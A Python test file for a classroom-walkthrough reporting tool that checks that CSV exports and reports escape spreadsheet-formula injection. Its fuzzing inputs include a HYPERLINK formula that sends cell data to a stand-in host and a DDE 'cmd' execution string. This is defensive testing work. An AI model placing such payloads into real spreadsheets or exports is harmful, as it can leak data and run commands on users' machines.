"""No CSV cell, header or data, starts the way a spreadsheet formula does.

A school or room named ``=HYPERLINK(…)`` or ``=1+1`` becomes a column header in the walk,
school, district and coverage tables; it is written with a leading ``'`` like any data cell.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from classwalk.cli import main
from classwalk.api import Classwalk
from classwalk.core.records.model import Evidence, Observer, Visit, Walk
from classwalk.features.reports.coverage import coverage_report
from classwalk.features.outputs.export import export_walk
from classwalk.features.reports import district_report, render_report, school_report, walk_report

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULA = st.tuples(
    st.sampled_from(STARTS),
    st.sampled_from(['HYPERLINK("http://x.example/?"&A1,"open")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)", ""]),
    st.text(st.characters(categories=("L", "N", "P", "S")), max_size=8),
).map("".join).filter(lambda name: name.strip())
DAY = dt.date(2026, 11, 2)
EXAMPLES = settings(max_examples=15, deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def assert_no_formula(text: str, where: str) -> None:
    for number, row in enumerate(csv.reader(io.StringIO(text))):
        for cell in row:
            assert not cell.startswith(STARTS), f"{where}, row {number}: {cell!r}"


def _walk(db_path, school: str, rooms: list[str]) -> Walk:
    walk = Walk(protocol_id="downey", school=school, date=DAY, name_rooms=True,
                observers=(Observer(name="Pat"),))
    records: list = [walk]
    for index, room in enumerate(rooms):
        start = dt.datetime(2026, 11, 2, 9, 10 * index, tzinfo=dt.timezone.utc)
        visit = Visit(walk_id=walk.id, classroom=room, teacher=room, observer="Pat", started_at=start,
                      ended_at=start + dt.timedelta(minutes=4))
        records += [visit, Evidence(walk_id=walk.id, visit_id=visit.id, kind="observation", text=room,
                                    look_fors=("orientation.on_task",), captured_at=start)]
    classwalk = Classwalk(db_path=db_path)
    classwalk.store.save_many(records)
    classwalk.close()
    return walk


@EXAMPLES
@given(school=FORMULA, rooms=st.lists(FORMULA, min_size=1, max_size=3, unique=True))
def test_every_csv_table_escapes_headers_and_cells(tmp_path_factory, school, rooms):
    db_path = tmp_path_factory.mktemp("csv") / "walks.db"
    walk = _walk(db_path, school, rooms)
    classwalk = Classwalk(db_path=db_path)
    try:
        assert_no_formula(export_walk(classwalk, walk.id, "csv"), "export csv")
        reports = {
            "walk": walk_report(classwalk, walk.id),
            "school": school_report(classwalk, school, None, None),
            "district": district_report(classwalk, None, None),
            "coverage": coverage_report(classwalk, DAY - dt.timedelta(days=20), DAY, None, None, None),
        }
        for name, patterns in reports.items():
            assert_no_formula(render_report(name, patterns, "csv"), f"{name} report")
            for pattern in patterns:
                assert_no_formula(render_report(name, patterns, "csv", pattern.id), f"{name}: {pattern.id}")
    finally:
        classwalk.close()


def test_the_cli_writes_a_room_header_escaped(tmp_path, capsys):
    db_path = tmp_path / "walks.db"
    walk = _walk(db_path, "=1+1", ['=HYPERLINK("http://x.example","y")', "@SUM(A1)"])
    capsys.readouterr()
    assert main(["--db", str(db_path), "report", "district", "--format", "csv", "--table", "look_fors_by_school.downey"]) == 0
    assert main(["--db", str(db_path), "report", "walk", walk.id[:8], "--format", "csv",
                 "--table", "look_fors_by_classroom"]) == 0
    out = capsys.readouterr().out
    assert_no_formula(out, "CLI csv")
    assert "'=HYPERLINK(" in out or "'=1+1" in out
